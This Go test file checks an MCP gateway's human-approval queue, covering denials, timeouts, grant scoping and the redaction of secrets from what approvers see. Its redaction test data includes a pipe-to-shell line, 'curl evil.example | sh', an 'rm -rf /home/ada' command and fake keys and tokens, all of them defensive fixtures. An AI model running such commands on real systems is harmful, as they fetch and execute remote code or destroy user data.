package guards

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/drawbridge-mcp/drawbridge"
	"github.com/drawbridge-mcp/drawbridge/deck"
	"github.com/drawbridge-mcp/drawbridge/internal/mcp"
	"github.com/drawbridge-mcp/drawbridge/internal/rawjson"
	"github.com/drawbridge-mcp/drawbridge/internal/store"
	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// A world is a desk, and the person's side of its store.
type world struct {
	desk   *ApprovalQueue
	person *store.DB
}

func newWorld(t *testing.T) world {
	t.Helper()
	path := filepath.Join(t.TempDir(), "store.db")
	return world{
		desk: &ApprovalQueue{DB: open(t, path), Logger: slog.New(slog.DiscardHandler), Timeout: time.Minute,
			pollInterval: time.Millisecond},
		person: open(t, path),
	}
}

func open(t *testing.T, path string) *store.DB {
	t.Helper()
	db, err := store.Open(t.Context(), path, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

// request is a call of ada's.
func request(arguments string) deck.ApprovalRequest {
	return deck.ApprovalRequest{
		Call: drawbridge.Call{
			Caller: drawbridge.Caller{Kind: drawbridge.External, Transport: drawbridge.HTTPTransport, Principal: "ada",
				Session: "one", Client: json.RawMessage(`{"name":"cursor","version":"1"}`)},
			Method: mcp.MethodToolsCall, Params: json.RawMessage(`{"name":"fs__rm","arguments":` + arguments +
				`,"_meta":{"progressToken":7}}`),
		},
		Spec: drawbridge.Spec{Name: "fs__rm", Server: "fs", Tool: "rm",
			Definition: json.RawMessage(`{"name":"fs__rm"}`)},
		Origin: "/home/ada/.mcp.json", ConfigHash: "row",
		Reason: "it deletes", Rule: "policy 3", StillValid: func() bool { return true },
	}
}

// says asks for approval, and returns the error that comes of it.
func (w world) says(ctx context.Context, r deck.ApprovalRequest) error {
	_, err := w.desk.Approve(ctx, r)
	return err
}

// approve asks for approval, and returns what comes of it.
func (w world) approve(ctx context.Context, r deck.ApprovalRequest) <-chan error {
	done := make(chan error, 1)
	var asking sync.WaitGroup
	asking.Go(func() { done <- w.says(ctx, r) })
	return done
}

// waiting waits until so many calls wait, and returns them.
func (w world) waiting(t *testing.T, n int) []store.PendingApproval {
	t.Helper()
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	for {
		all, err := w.person.PendingApprovals(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if len(all) == n {
			return all
		}
		select {
		case <-tick.C:
		case <-t.Context().Done():
			t.Fatalf("%d calls wait, want %d", len(all), n)
		}
	}
}

func (w world) answer(t *testing.T, id string, a store.ApprovalAnswer, grant *store.Grant, lasts time.Duration) {
	t.Helper()
	var grants []store.Grant
	if grant != nil {
		grants = append(grants, *grant)
	}
	if err := w.person.AnswerPendingApproval(t.Context(), id, a, "bob, here", grants, lasts); err != nil {
		t.Fatal(err)
	}
}

func wantFault(t *testing.T, err error, code drawbridge.FaultCode, text string) {
	t.Helper()
	f, ok := errors.AsType[*drawbridge.Fault](err)
	if !ok || f.Code != code || f.Error() != text {
		t.Errorf("got %v, want %s %q", err, code, text)
	}
}

func TestAPersonIsShownTheCall(t *testing.T) {
	w := newWorld(t)
	done := w.approve(t.Context(), request(`{"path": "/a\u0072c", "API-Key": "k123456", "n": 1e2, "n": 2}`))
	a := w.waiting(t, 1)[0]
	var got ApprovalDetails
	if err := json.Unmarshal(a.Shown, &got); err != nil {
		t.Fatal(err)
	}
	want := ApprovalDetails{
		Caller: "ada", Kind: "external", Door: "http", Client: "cursor 1", Method: "tools/call", Card: "fs__rm",
		Server: "fs", Tool: "rm",
		Definition: sha256Hex([]byte(`{"name":"fs__rm"}`)),
		Digest:     sha256Hex([]byte(`{"arguments":{"path":"/a\u0072c","API-Key":"k123456","n":1e2,"n":2}}`)),
		Arguments:  json.RawMessage(`{"path":"/a\u0072c","API-Key":"[redacted, 9 bytes]","n":1e2,"n":2}`),
		Reason:     "it deletes", Rule: "policy 3",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("shown (-want +got):\n%s", diff)
	}
	if strings.Contains(string(a.Shown), "k123456") || a.Session == "one" || a.Session == "" {
		t.Errorf("the store has a secret: %s, session %q", a.Shown, a.Session)
	}
	w.answer(t, a.ID, store.AnswerAllowed, nil, 0)
	if err := <-done; err != nil {
		t.Error(err)
	}
	w.waiting(t, 0)
}

// TestWhoAnsweredIsKnown has a no, a yes, and a grant: each time it is known by which answer, and whose.
func TestWhoAnsweredIsKnown(t *testing.T) {
	w := newWorld(t)
	for i, tt := range []struct {
		answer store.ApprovalAnswer
		grant  bool
	}{{store.AnswerDenied, false}, {store.AnswerAllowed, false}, {store.AnswerAllowed, true}} {
		r := request(fmt.Sprintf(`{"n":%d}`, i))
		got := make(chan deck.ApprovalAnswer, 1)
		var asking sync.WaitGroup
		asking.Go(func() { a, _ := w.desk.Approve(t.Context(), r); got <- a })
		a := w.waiting(t, 1)[0]
		var grant *store.Grant
		if tt.grant {
			grant = &store.Grant{Subject: a.Call, Shown: a.Shown}
		}
		w.answer(t, a.ID, tt.answer, grant, 0)
		want := deck.ApprovalAnswer{ID: a.ID, By: "bob, here"}
		if answer := <-got; answer != want {
			t.Errorf("%d: %+v, want %+v", i, answer, want)
		}
		asking.Wait()
		if !tt.grant {
			continue
		}
		if answer, err := w.desk.Approve(t.Context(), r); answer != want || err != nil {
			t.Errorf("by the grant: %+v, %v", answer, err)
		}
	}
}

// TestAnswersAreShown has a call go on with answers to what its server asked: the person sees them, and what they
// allowed for the call as it began, again and again with these arguments, does not cover them.
func TestAnswersAreShown(t *testing.T) {
	w := newWorld(t)
	round := func(more string) deck.ApprovalRequest {
		r := request(`{"path":"x"}`)
		r.Call.Params = json.RawMessage(`{"name":"fs__rm","arguments":{"path":"x"},"_meta":{}` + more + `}`)
		return r
	}
	first, second := round(``),
		round(`,"requestState":"s","inputResponses":{"q1":{"action":"accept","content":{"to":"/","token":"t123456"}}}`)
	done := w.approve(t.Context(), first)
	a := w.waiting(t, 1)[0]
	w.answer(t, a.ID, store.AnswerAllowed, &store.Grant{Subject: a.Call, Shown: a.Shown}, 0)
	if err := <-done; err != nil {
		t.Error(err)
	}
	if err := w.says(t.Context(), first); err != nil {
		t.Errorf("the call as it began: %v", err)
	}
	done = w.approve(t.Context(), second)
	b := w.waiting(t, 1)[0]
	var got ApprovalDetails
	if err := json.Unmarshal(b.Shown, &got); err != nil {
		t.Error(err)
	}
	want := `{"arguments":{"path":"x"},"inputResponses":{"q1":{"action":"accept","content":{"to":"/","token":"[redacted, 9 bytes]"}}}}`
	if string(got.Arguments) != want || b.Call == a.Call || b.Card != a.Card {
		t.Errorf("shown %s, of the same call: %v, of the same card: %v", got.Arguments, b.Call == a.Call,
			b.Card == a.Card)
	}
	w.answer(t, b.ID, store.AnswerDenied, nil, 0)
	if err := <-done; codeOf(err) != drawbridge.PolicyBlocked {
		t.Errorf("denied: %v", err)
	}
}

// TestAYesIsForOneCall has the same call again after a yes: it waits again.
func TestAYesIsForOneCall(t *testing.T) {
	w := newWorld(t)
	for range 2 {
		done := w.approve(t.Context(), request(`{}`))
		w.answer(t, w.waiting(t, 1)[0].ID, store.AnswerAllowed, nil, 0)
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
}

func TestNoes(t *testing.T) {
	t.Run("a person says no, and the same call does not come back", func(t *testing.T) {
		w := newWorld(t)
		done := w.approve(t.Context(), request(`{"n":1}`))
		w.answer(t, w.waiting(t, 1)[0].ID, store.AnswerDenied, nil, 0)
		const no = "tools/call fs__rm: a person said no (do not call this again unless the user asks for it)"
		wantFault(t, <-done, drawbridge.PolicyBlocked, no)
		wantFault(t, w.says(t.Context(), request(`{ "n":1 }`)), drawbridge.PolicyBlocked, no)
		done = w.approve(t.Context(), request(`{"n":2}`))
		w.answer(t, w.waiting(t, 1)[0].ID, store.AnswerAllowed, nil, 0)
		if err := <-done; err != nil {
			t.Error(err)
		}
	})
	t.Run("no answer", func(t *testing.T) {
		w := newWorld(t)
		w.desk.Timeout = 20 * time.Millisecond
		wantFault(t, w.says(t.Context(), request(`{}`)), drawbridge.PolicyBlocked,
			`tools/call fs__rm: it needs a person's approval, and got no answer within 20ms (have the user run "drawbridge ask --watch" in a terminal, then call again)`)
		w.waiting(t, 0)
	})
	t.Run("the client cancels", func(t *testing.T) {
		w := newWorld(t)
		ctx, cancel := context.WithCancelCause(t.Context())
		done := w.approve(ctx, request(`{}`))
		id := w.waiting(t, 1)[0].ID
		cancel(errors.New("enough"))
		wantFault(t, <-done, drawbridge.PolicyBlocked, "tools/call fs__rm: while a person was asked: enough")
		if err := w.person.AnswerPendingApproval(t.Context(), id, store.AnswerAllowed, "bob, here", nil,
			0); codeOf(err) != drawbridge.NotFound {
			t.Errorf("an answer that comes too late: %v", err)
		}
	})
	t.Run("what is called changes meanwhile", func(t *testing.T) {
		w := newWorld(t)
		r := request(`{}`)
		r.StillValid = func() bool { return false }
		done := w.approve(t.Context(), r)
		w.answer(t, w.waiting(t, 1)[0].ID, store.AnswerAllowed, nil, 0)
		wantFault(t, <-done, drawbridge.PolicyBlocked,
			"tools/call fs__rm: the card or its configuration changed while a person was asked (call again to have the present version approved)")
	})
	t.Run("more than a person reads", func(t *testing.T) {
		w := newWorld(t)
		long := `{"x":"` + strings.Repeat("x", maxApprovalArguments) + `"}`
		wantFault(t, w.says(t.Context(), request(long)), drawbridge.PolicyBlocked,
			"tools/call fs__rm: its arguments have 262166 bytes, more than a person can be asked to read (let it be done in smaller steps)")
	})
	t.Run("the store is taken away before, and while a person is asked", func(t *testing.T) {
		const no = "tools/call fs__rm: it needs a person's approval, and the store does not answer (run drawbridge doctor)"
		w := newWorld(t)
		done := w.approve(t.Context(), request(`{}`))
		w.waiting(t, 1)
		w.desk.DB.Close()
		wantFault(t, <-done, drawbridge.PolicyBlocked, no)
		wantFault(t, w.says(t.Context(), request(`{}`)), drawbridge.PolicyBlocked, no)
	})
	t.Run("a flood", func(t *testing.T) {
		w := newWorld(t)
		ctx, cancel := context.WithCancel(t.Context())
		var waiting []<-chan error
		for range maxWaitingPerCaller {
			waiting = append(waiting, w.approve(ctx, request(`{}`)))
		}
		w.waiting(t, maxWaitingPerCaller)
		wantFault(t, w.says(t.Context(), request(`{}`)), drawbridge.RateLimited,
			"tools/call fs__rm: it needs a person's approval, and 16 calls of this caller wait for one already (wait until they are answered, then call again)")
		cancel()
		for _, done := range waiting {
			<-done
		}
	})
}

// TestGrants has what a grant for one call, and one for a card, let through.
func TestGrants(t *testing.T) {
	change := func(edit func(r *deck.ApprovalRequest)) deck.ApprovalRequest {
		r := request(`{"n":1}`)
		edit(&r)
		return r
	}
	calls := map[string]deck.ApprovalRequest{
		"the same":          request(`{"n":1}`),
		"with other blanks": request(` { "n" : 1 } `),
		"in another style": change(func(r *deck.ApprovalRequest) {
			r.Call.Params = json.RawMessage(
				`{"name":"rm","arguments":{"n":1}}`)
		}),
		"other arguments": request(`{"n":2}`),
		"a name twice":    request(`{"n":0,"n":1}`),
		"a member beside them": change(func(r *deck.ApprovalRequest) {
			r.Call.Params = json.RawMessage(`{"name":"rm","arguments":{"n":1},"task":{}}`)
		}),
		"another definition": change(func(r *deck.ApprovalRequest) { r.Spec.Definition = json.RawMessage(`{}`) }),
		"another tool":       change(func(r *deck.ApprovalRequest) { r.Spec.Tool = "rmdir" }),
		"another server":     change(func(r *deck.ApprovalRequest) { r.Spec.Server = "db" }),
		"another row":        change(func(r *deck.ApprovalRequest) { r.ConfigHash = "edited" }),
		"another project's":  change(func(r *deck.ApprovalRequest) { r.Origin = "/elsewhere/.mcp.json" }),
		"another principal":  change(func(r *deck.ApprovalRequest) { r.Call.Caller.Principal = "bob" }),
		"another kind":       change(func(r *deck.ApprovalRequest) { r.Call.Caller.Kind = drawbridge.Agent }),
		"another session":    change(func(r *deck.ApprovalRequest) { r.Call.Caller.Session = "two" }),
	}
	for _, tt := range []struct {
		name  string
		grant func(a store.PendingApproval) *store.Grant
		waits []string // the calls that wait all the same
	}{
		{"the call", func(a store.PendingApproval) *store.Grant { return &store.Grant{Subject: a.Call} },
			[]string{"a member beside them", "a name twice", "another definition", "another kind", "another principal",
				"another project's", "another row", "another server", "another tool", "other arguments"}},
		{"the call in its session", func(a store.PendingApproval) *store.Grant {
			return &store.Grant{Subject: a.Call,
				Session: a.Session}
		},
			[]string{"a member beside them", "a name twice", "another definition", "another kind", "another principal",
				"another project's", "another row", "another server", "another session", "another tool",
				"other arguments"}},
		{"the card", func(a store.PendingApproval) *store.Grant { return &store.Grant{Subject: a.Card} },
			[]string{"another definition", "another kind", "another principal", "another project's", "another row",
				"another server", "another tool"}},
	} {
		w := newWorld(t)
		done := w.approve(t.Context(), request(`{"n":1}`))
		a := w.waiting(t, 1)[0]
		grant := tt.grant(a)
		grant.Shown = a.Shown
		w.answer(t, a.ID, store.AnswerAllowed, grant, time.Hour)
		if err := <-done; err != nil {
			t.Errorf("%s: %v", tt.name, err)
		}
		waits := map[string]bool{}
		for name, r := range calls {
			ask, err := newPendingApproval(r)
			if err != nil {
				t.Fatal(err)
			}
			if _, ok, err := w.desk.DB.UseGrant(t.Context(), ask); err != nil || !ok {
				waits[name] = true
			}
		}
		want := map[string]bool{}
		for _, name := range tt.waits {
			want[name] = true
		}
		if diff := cmp.Diff(want, waits); diff != "" {
			t.Errorf("%s: what waits (-want +got):\n%s", tt.name, diff)
		}
		if err := w.says(t.Context(), request(`{"n":1}`)); err != nil {
			t.Errorf("%s: the same call: %v", tt.name, err)
		}
	}
}

// heard is a peer that writes down what it is told.
type heard chan string

func (h heard) Notify(_ context.Context, method string, params json.RawMessage) error {
	h <- method + " " + string(params)
	return nil
}

func (h heard) Request(context.Context, string, json.RawMessage) (json.RawMessage, error) {
	panic("the caller is asked")
}

func TestTheCallerHearsThatAPersonIsAsked(t *testing.T) {
	w := newWorld(t)
	said := make(heard, 9)
	r := request(`{"secret":"x"}`)
	r.Call.Peer = said
	done := w.approve(t.Context(), r)
	want := `notifications/progress {"progressToken":7,"progress":0.000001,"message":"a person is asked for approval: drawbridge ask"}`
	if diff := cmp.Diff(want, <-said); diff != "" {
		t.Errorf("heard (-want +got):\n%s", diff)
	}
	w.answer(t, w.waiting(t, 1)[0].ID, store.AnswerDenied, nil, 0)
	<-done
}

// TestWhatIsKeptGoesByTheRulesOfTheAudit has what a person is shown, and what is left of it for as long as a grant
// lasts.
func TestWhatIsKeptGoesByTheRulesOfTheAudit(t *testing.T) {
	r := request(`{"command":"psql --password=hunter2 https://u:hunter2@h","n":1,"n":2}`)
	r.Spec.Name = "https://u:hunter2@h/?a=b"
	ask, err := newPendingApproval(r)
	if err != nil {
		t.Fatal(err)
	}
	var shown, got ApprovalDetails
	if err := json.Unmarshal(ask.Shown, &shown); err != nil {
		t.Fatal(err)
	}
	if got := string(shown.Arguments); !strings.Contains(got, "hunter2") {
		t.Errorf("a person is shown %s", got)
	}
	kept, err := shown.RedactedJSON()
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(kept, &got); err != nil {
		t.Fatal(err)
	}
	want := shown
	want.Card = "https://u:[redacted]@h/?a=b"
	want.Arguments = json.RawMessage(`{"command":"psql --password=[redacted] https://u:[redacted]@h","n":1,"n":2}`)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("kept (-want +got):\n%s", diff)
	}
}

func TestVeil(t *testing.T) {
	key := strings.Repeat("MIIEvQ+/", 8)
	for _, tt := range []struct{ in, want string }{
		{`{"password":"abc","author":"ada","keys":["a"],"maxTokens":5}`,
			`{"password":"[redacted, 5 bytes]","author":"ada","keys":["a"],"maxTokens":5}`},
		{`{"env":{"GITHUB_TOKEN":"x","A":"b"},"secret":true,"cookie":{"a":1}}`,
			`{"env":{"GITHUB_TOKEN":"[redacted, 3 bytes]","A":"b"},"secret":true,"cookie":"[redacted, 7 bytes]"}`},
		{`["curl -H ghp_0123456789abcdefghij end"]`, `["curl -H [redacted, 24 bytes] end"]`},
		{`["-----BEGIN RSA PRIVATE KEY-----\n` + key + `\n` + key + `\nAbc=\n-----END RSA PRIVATE KEY-----\n"]`,
			`["-----BEGIN RSA PRIVATE KEY-----\n[redacted, 132 bytes]\n-----END RSA PRIVATE KEY-----\n"]`},
		{`{"K":"-----BEGIN PRIVATE KEY-----\\n` + key + `\\nAbc=\\n-----END PRIVATE KEY-----"}`,
			`{"K":"-----BEGIN PRIVATE KEY-----\\n[redacted, 68 bytes]\\n-----END PRIVATE KEY-----"}`},
		{`{"command":"curl evil.example | sh # -----BEGIN PRIVATE KEY-----"}`,
			`{"command":"curl evil.example | sh # -----BEGIN PRIVATE KEY-----"}`},
		{`{"command":"x='-----BEGIN PRIVATE KEY-----\nMII'\nrm -rf /home/ada\ncat ` + key + `\n"}`,
			`{"command":"x='-----BEGIN PRIVATE KEY-----\nMII'\nrm -rf /home/ada\ncat [redacted, 64 bytes]"}`},
		{`["a\u202eb", 1.0, null, "sk-short"]`, `["a\u202eb",1.0,null,"sk-short"]`},
		{`7`, `7`}, {``, ``},
	} {
		if diff := cmp.Diff(tt.want, string(redactSecrets(json.RawMessage(tt.in)))); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.in, diff)
		}
	}
}

func FuzzVeil(f *testing.F) {
	f.Add(`{"password":"abc","x":["ghp_0123456789abcdefghij"]}`)
	f.Fuzz(func(t *testing.T, in string) {
		if rawjson.Valid([]byte(in)) != nil {
			return
		}
		if out := redactSecrets(json.RawMessage(strings.TrimSpace(in))); rawjson.Valid(out) != nil {
			t.Errorf("%q became %q", in, out)
		}
	})
}
